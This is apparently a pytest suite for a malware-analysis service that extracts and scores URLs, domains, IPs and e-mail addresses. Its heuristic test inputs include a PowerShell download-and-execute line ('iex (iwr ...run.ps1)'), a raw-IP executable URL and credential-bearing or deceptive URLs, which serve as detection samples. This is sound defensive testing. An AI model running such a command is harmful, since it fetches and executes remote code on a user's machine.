"""The IOCs service: what it tags, what it refuses to tag, and which inputs it scores."""

from __future__ import annotations

import random

import pytest

from schemas.messages import Relation, SampleKind
from schemas.tags import tag_problem
from services.sdk.harness import run_service_once
from services.sdk.loader import load_service
from services.sdk.manifest import ManifestError

URI, DOMAIN = "network.static.uri", "network.static.domain"
IP, EMAIL = "network.static.ip", "network.email.address"

TEXT = b"""Release notes.
See https://www.example.com/docs/start?lang=en, or the mirror (ftp://mirror.example.org/pub/tool).
Report bugs to support@example.net; mailto:Jane.Doe@example.co.uk works too.
Resolvers 192.0.2.53 and 198.51.100.7; IPv6 gateway 2001:db8::8a2e:370:7334.
"""


def iocs(data: bytes, file_type: str = "text/plain", **config):
    service = load_service("iocs", config_overrides=config or None)
    run = run_service_once(service, data, file_type=file_type)
    assert run.result.error is None
    # The runner adds "Result warnings" for an invalid tag or unknown heuristic: there must be none.
    assert not [s for s in run.result.sections if s.title == "Result warnings"]
    return run


def test_text_indicators_are_tagged_by_kind():
    run = iocs(TEXT)
    assert run.tags(URI) == {"https://www.example.com/docs/start?lang=en", "ftp://mirror.example.org/pub/tool"}
    assert run.tags(DOMAIN) == {"www.example.com", "mirror.example.org", "example.net", "example.co.uk"}
    assert run.tags(IP) == {"192.0.2.53", "198.51.100.7", "2001:db8::8a2e:370:7334"}
    assert run.tags(EMAIL) == {"support@example.net", "Jane.Doe@example.co.uk"}
    assert [s.title for s in run.result.sections] == ["URLs", "Domains", "IP addresses", "E-mail addresses"]
    assert run.heuristics == {1}
    assert "192.0.2.53" in run.section("IP addresses").body.splitlines()


def test_duplicates_are_reported_once():
    run = iocs(b"https://a.example.com/ " * 50)
    assert run.section("URLs").body.splitlines() == ["https://a.example.com/"]


def test_utf16le_url_inside_a_binary():
    blob = bytes(range(256)) + "http://updates.example.com/get".encode("utf-16-le") + b"\x00\xff" * 40
    run = iocs(blob, "executable/windows/pe32")
    assert "http://updates.example.com/get" in run.tags(URI)
    assert "updates.example.com" in run.tags(DOMAIN)


def test_ascii_strings_inside_a_binary():
    blob = b"\x90\x00\x13" + b"connect 203.0.113.9 now" + b"\x00\x01\x02" + b"evil.example.top" + b"\xff"
    run = iocs(blob, "unknown")
    assert run.tags(IP) == {"203.0.113.9"}
    assert run.tags(DOMAIN) == {"evil.example.top"}


def test_false_positives_are_not_tagged():
    text = (
        b"LoadLibrary kernel32.dll and user32.dll, run setup.exe, read README.md and notes.md,\n"
        b"unpack archive.zip; using System.IO; System.Net.Http; version 1.2.3 build 6.1.7600.16385;\n"
        b"not an ip: 256.1.1.1 or 01.02.03.04; time 12:30:45; mac 00:1a:2b:3c:4d:5e; icon@2x.png\n"
    )
    run = iocs(text)
    assert run.result.sections == []


def test_url_hosts_may_use_file_like_tlds():
    """`archive.zip` as a bare word is a file name, but `https://archive.zip/` is a domain."""
    run = iocs(b"get https://setup.zip/install now")
    assert run.tags(DOMAIN) == {"setup.zip"}
    assert 3 in run.heuristics


def test_every_listed_tld_counts():
    """`no` is quoted in the manifest: bare, YAML reads it as false and Norway drops out."""
    run = iocs(b"see www.example.no and shop.example.de")
    assert run.tags(DOMAIN) == {"www.example.no", "shop.example.de"}


def test_an_override_the_checks_cannot_match_fails_at_start():
    """The checks compare lower case, dotless extensions: `.EXE` would never match, so it is refused."""
    with pytest.raises(ManifestError, match=r"service iocs: .*executable_extensions"):
        load_service("iocs", config_overrides={"executable_extensions": [".EXE"]})
    run = iocs(b"http://dl.example.com/tool.msi", executable_extensions=["msi"])
    assert 4 in run.heuristics


@pytest.mark.parametrize(
    ("text", "heuristic"),
    [
        (b"fetch http://203.0.113.7/index.html", 2),
        (b"visit shop.example.xyz today", 3),
        (b"download https://cdn.example.com/files/Update.EXE", 4),
        (b"powershell iex (iwr https://example.com/run.ps1)", 4),
        (b"ftp://admin:hunter2@ftp.example.com/backup", 5),
        (b"https://bank.example.com@login.example.net/", 5),
    ],
)
def test_heuristics_fire_on_their_inputs(text, heuristic):
    run = iocs(text)
    assert heuristic in run.heuristics
    hit = next(s for s in run.result.sections if s.heuristic and s.heuristic.heur_id == heuristic)
    assert hit.heuristic.score > 0 and hit.depth == 1 and hit.body


def test_benign_urls_score_nothing():
    run = iocs(b"https://docs.example.com/guide/index.html and https://example.org/app.js")
    assert run.heuristics == {1}
    assert run.result.score == 0


def test_raw_ip_executable_url_scores_both():
    run = iocs(b"http://203.0.113.7/payload/update.exe")
    assert {2, 4} <= run.heuristics
    assert run.result.score == 600


def test_count_per_kind_is_capped_and_says_so():
    text = " ".join(f"host{i}.example.com" for i in range(20)).encode()
    run = iocs(text, max_per_kind=5)
    assert len(run.tags(DOMAIN)) == 5
    assert "capped: 5 of 20" in run.section("Domains").body


@pytest.mark.parametrize("data", [b"", b"\x00" * 4096, random.Random(7).randbytes(1 << 20)])
def test_empty_or_random_input_does_not_crash(data):
    run = iocs(data, "unknown")
    for section in run.result.sections:  # random bytes may hold a stray valid IP; tags stay valid
        assert all(tag_problem(t.name, t.value) is None for t in section.tags)


def test_scan_limit_is_reported():
    run = iocs(b"host.example.com\n" * 200_000, max_scan_chars=1)  # about three 1 MiB batches
    assert "first" in run.section("Scan limit reached").body
    assert run.tags(DOMAIN) == {"host.example.com"}  # what was scanned is still reported


LINKS = (b"get https://a.example.com/x, mirror http://b.example.org/y; again https://a.example.com/x\n"
         b"HTTPS://A.EXAMPLE.COM/x (the same URL in capitals) and ftp://c.example.net/z\n")


def relating(data: bytes, max_extracted: int = 100, **params):
    run = run_service_once("iocs", data, file_type="text/plain", service_params=params, max_extracted=max_extracted)
    assert run.result.error is None
    return run


def test_urls_are_not_related_unless_asked():
    run = relating(LINKS)
    assert run.related == [] and "URLs" in [s.title for s in run.result.sections]
    assert not [s for s in run.result.sections if s.title.startswith("URLs related")]


def test_urls_are_related_as_retrieved_by_when_asked_each_once():
    run = relating(LINKS, relate_uris=True)
    assert [(r.ref.kind, r.ref.name, r.relation) for r in run.related] == [
        (SampleKind.URI, "https://a.example.com/x", Relation.RETRIEVED_BY),
        (SampleKind.URI, "http://b.example.org/y", Relation.RETRIEVED_BY),
        (SampleKind.URI, "ftp://c.example.net/z", Relation.RETRIEVED_BY),
    ]
    assert run.section("URLs related for analysis").body.splitlines() == [r.ref.name for r in run.related]
    assert run.related[0].ref.data == b"https://a.example.com/x"  # inline, as every sample travels


def test_related_urls_are_capped_and_the_cap_is_said():
    text = " ".join(f"http://host{i}.example.com/p" for i in range(30)).encode()
    run = relating(text, relate_uris=True, max_related_uris=5)
    assert len(run.related) == 5
    assert "capped: 5 of 30 distinct URLs related" in run.section("URLs related for analysis").body
    assert len(run.tags(URI)) == 30  # tagging is not capped by relating


def test_related_urls_stop_at_the_childrens_limit_and_say_so():
    run = relating(LINKS, max_extracted=2, relate_uris=True)
    assert len(run.related) == 2
    assert "limit of 2 children" in run.section("URLs related for analysis").body
